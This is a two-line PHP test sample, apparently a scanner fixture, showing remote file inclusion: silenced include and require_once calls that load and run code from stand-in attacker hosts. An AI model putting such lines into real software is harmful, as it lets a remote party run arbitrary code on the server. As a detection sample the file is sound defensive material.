<?php
// Test sample: remote file inclusion of attacker-hosted code.
@include 'http://evil.example/x.txt';
@require_once("https://cdn.evil.invalid/lib/core.txt");
